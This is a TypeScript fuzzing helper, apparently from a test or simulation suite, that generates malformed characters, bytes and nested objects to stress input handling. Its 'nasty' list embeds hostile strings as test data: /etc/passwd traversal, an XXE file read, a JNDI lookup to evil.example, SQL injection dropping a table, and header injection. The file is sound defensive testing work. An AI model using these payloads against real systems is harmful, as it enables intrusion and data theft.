import type { Random } from "../simulation/random.ts";

// What comes in from people who mean no good, and from programs that mean nothing.

const characters = [
  ..."abcXYZ019 _-.,:;/\\'\"<>&%+=?#[]{}()|~`!@$^*",
  ..."\u0000\u0001\b\t\n\r\u001b\u007f\u0085\u00a0\u200b\u202e\u2028\ufeff\uffff",
  ..."äß€中🎉",
  "\ud800",
  "\udc00",
];

const nasty = [
  "",
  "0",
  "-1",
  "null",
  "undefined",
  "NaN",
  "true",
  "__proto__",
  "constructor",
  "hasOwnProperty",
  "toString",
  "../../etc/passwd",
  "%00",
  "%2e%2e%2f",
  "%ff",
  "%zz",
  "%",
  "\r\nX-Injected: 1",
  "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
  "]]><Hangup/>",
  "$\u007bjndi:ldap://evil.example/a}",
  "{{7*7}}",
  "'; DROP TABLE ledger;--",
  "https://evil.example/",
  "//evil.example",
  "javascript:alert(1)",
  "4111111111111111",
  "4111-1111-1111-1111",
  "5555 5555 5555 4444",
  "1e309",
  "9".repeat(400),
  "a".repeat(2_000),
  "é".repeat(65),
];

export const hostileText = (random: Random, longest = 40): string =>
  random.oneIn(2)
    ? random.pick(nasty)
    : Array.from({ length: random.whole(0, longest) }, () => random.pick(characters)).join("");

export const hostileBytes = (random: Random, longest = 200): Buffer =>
  Buffer.from(Array.from({ length: random.whole(0, longest) }, () => random.whole(0, 255)));

/** A value of any kind and any depth; `marker` is in it somewhere, or is it. */
export function hostileValue(random: Random, marker: string, depth = 0): unknown {
  switch (random.whole(0, depth > 3 ? 7 : 10)) {
    case 0:
      return null;
    case 1:
      return random.oneIn(2);
    case 2:
      return random.pick([0, -1, 1e308, -1e-308, 2 ** 53, 4111111111111111, 0.1, Number.MAX_SAFE_INTEGER]);
    case 3:
      return [];
    case 4:
      return {};
    case 5:
      return marker;
    case 6:
      return hostileText(random) + marker;
    case 7:
      return hostileText(random);
    case 8:
      return Array.from({ length: random.whole(1, 4) }, () => hostileValue(random, marker, depth + 1));
    case 9:
      return deep(random.pick([10, 100, 1_000]), random.oneIn(2), marker);
    default:
      return Object.fromEntries(
        Array.from({ length: random.whole(1, 4) }, () => [
          random.pick([hostileText(random, 10), marker, "type", "data", "hold", "detail-type"]),
          hostileValue(random, marker, depth + 1),
        ]),
      );
  }
}

function deep(levels: number, isArray: boolean, innermost: unknown): unknown {
  let value: unknown = innermost;
  for (let level = 0; level < levels; level += 1) value = isArray ? [value] : { a: value };
  return value;
}

/** `root` with up to `most` things in it changed, added, removed or doubled. */
export function damaged(random: Random, root: object, marker: string, most = 3): unknown {
  const copy: unknown = structuredClone(root);
  if (random.oneIn(40)) return hostileValue(random, marker);
  for (let change = random.whole(0, most); change > 0; change -= 1) {
    const inner = objectsIn(copy);
    const target = random.pick(inner.length === 0 ? [{}] : inner);
    const names = Object.keys(target);
    const name =
      names.length === 0 || random.oneIn(4)
        ? random.pick([marker, hostileText(random, 12)])
        : random.pick(names);
    switch (random.whole(0, 3)) {
      case 0:
        Reflect.deleteProperty(target, name);
        break;
      case 1:
        put(target, name, hostileValue(random, marker));
        break;
      case 2:
        put(target, random.pick([marker, `x${marker}`, hostileText(random, 12)]), own(target, name));
        break;
      default:
        put(target, name, nearly(random, own(target, name), marker));
    }
  }
  return copy;
}

const own = (target: object, name: string): unknown => Object.getOwnPropertyDescriptor(target, name)?.value;
/** Own, whatever its name. */
const put = (target: object, name: string, value: unknown): void => {
  Object.defineProperty(target, name, { value, enumerable: true, configurable: true, writable: true });
};

function nearly(random: Random, value: unknown, marker: string): unknown {
  if (typeof value !== "string") return value;
  const at = random.whole(0, value.length);
  return random.pick([
    value.slice(0, at) + random.pick(characters) + value.slice(at),
    value.slice(0, at) + value.slice(at + 1),
    value + marker,
    value.toUpperCase(),
    ` ${value}`,
    `${value}\n`,
    [value],
    value + value,
  ]);
}

function objectsIn(value: unknown): object[] {
  if (typeof value !== "object" || value === null) return [];
  return [value, ...Object.values(value).slice(0, 8).flatMap(objectsIn)].slice(0, 30);
}

/** `whole` with a few of its bytes changed, cut off, doubled, or others among them. */
export function damagedBytes(random: Random, whole: Buffer): Buffer {
  const at = random.whole(0, whole.length);
  const [before, after] = [whole.subarray(0, at), whole.subarray(at)];
  switch (random.whole(0, 5)) {
    case 0:
      return Buffer.concat([before, hostileBytes(random, 5), after]);
    case 1:
      return before;
    case 2:
      return after;
    case 3:
      return Buffer.concat([whole, whole]);
    case 4:
      return Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), whole]);
    default:
      return Buffer.concat([before, Buffer.from([random.whole(0, 255)]), after.subarray(1)]);
  }
}
